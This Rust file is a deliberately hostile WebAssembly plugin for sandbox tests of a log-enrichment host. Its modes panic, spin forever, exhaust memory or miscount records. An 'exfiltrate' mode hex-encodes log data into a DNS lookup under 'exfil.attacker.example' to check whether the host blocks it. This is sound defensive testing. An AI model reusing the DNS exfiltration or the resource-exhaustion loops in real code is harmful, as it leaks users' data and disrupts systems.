//! A hostile component for the sandbox tests. It implements `logenrich:filter/enricher`
//! and behaves as its `hostile-mode` setting says:
//!
//! - `none` (default): one `{"line":N}` record per line (`process-parts` behaves as
//!   `process`, numbering from the batch's first line);
//! - `trap`: panics in `process` (a wasm trap);
//! - `loop`: loops forever in `process`;
//! - `grow`: allocates memory until it cannot;
//! - `short`: returns one record too few;
//! - `configure-loop`: loops forever in `configure`;
//! - `exfiltrate`: queries a DNSBL zone it was not given, with a line's text in the name,
//!   and writes the answer into each record.

use std::cell::Cell;

use bindings::exports::logenrich::filter::filter::{
    Batch, BatchStats, ConfigError, Guest, JsonlBatch, Part, Setting, SettingValue,
};
use bindings::logenrich::filter::dnsbl::{self, DnsblResult};
use bindings::logenrich::filter::types::IpAddress;

#[expect(unsafe_code, reason = "wit-bindgen's generated ABI glue")]
mod bindings {
    wit_bindgen::generate!({
        world: "enricher",
        path: "../../wit",
    });
    use super::Hostile;
    export!(Hostile);
}

thread_local! {
    static MODE: Cell<&'static str> = const { Cell::new("none") };
}

struct Hostile;

/// Spins without end, in a way the optimiser cannot remove.
fn spin() -> ! {
    let mut n: u64 = 0;
    loop {
        n = std::hint::black_box(n.wrapping_add(1));
    }
}

impl Guest for Hostile {
    fn contract_version() -> String {
        "0.3.1".into()
    }

    fn defaults() -> Vec<Setting> {
        vec![Setting {
            name: "hostile-mode".into(),
            value: SettingValue::Text("none".into()),
        }]
    }

    fn configure(settings: Vec<Setting>) -> Result<(), ConfigError> {
        for s in settings {
            if let ("hostile-mode", SettingValue::Text(mode)) = (s.name.as_str(), &s.value) {
                let mode: &'static str = match mode.as_str() {
                    "trap" => "trap",
                    "loop" => "loop",
                    "grow" => "grow",
                    "short" => "short",
                    "exfiltrate" => "exfiltrate",
                    "configure-loop" => spin(),
                    _ => "none",
                };
                MODE.with(|m| m.set(mode));
            }
        }
        Ok(())
    }

    fn process(batch: Batch) -> JsonlBatch {
        let mode = MODE.with(Cell::get);
        let mut n = batch.ends.len();
        let mut note = String::new();
        match mode {
            "trap" => panic!("hostile component: trap"),
            "loop" => spin(),
            "grow" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 16 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "short" => n = n.saturating_sub(1),
            "exfiltrate" => {
                let secret: String = batch
                    .data
                    .iter()
                    .take(20)
                    .map(|b| format!("{b:02x}"))
                    .collect();
                let zone = format!("{secret}.exfil.attacker.example");
                let got = dnsbl::lookup(&zone, &[IpAddress::Ipv4((127, 0, 0, 2))]);
                note = match &got[..] {
                    [DnsblResult::Failed(_)] => "refused".into(),
                    _ => "answered".into(),
                };
            }
            _ => {}
        }
        let mut jsonl = Vec::new();
        for i in 0..n {
            let line = batch.first_line + i as u64;
            jsonl
                .extend_from_slice(format!("{{\"line\":{line},\"note\":\"{note}\"}}\n").as_bytes());
        }
        JsonlBatch {
            jsonl,
            stats: BatchStats {
                parsed: n as u32,
                errors: 0,
                invalid_utf8: 0,
                clients: Vec::new(),
            },
        }
    }

    fn process_parts(batch: Batch, _parts: Vec<Part>) -> JsonlBatch {
        Self::process(batch)
    }
}
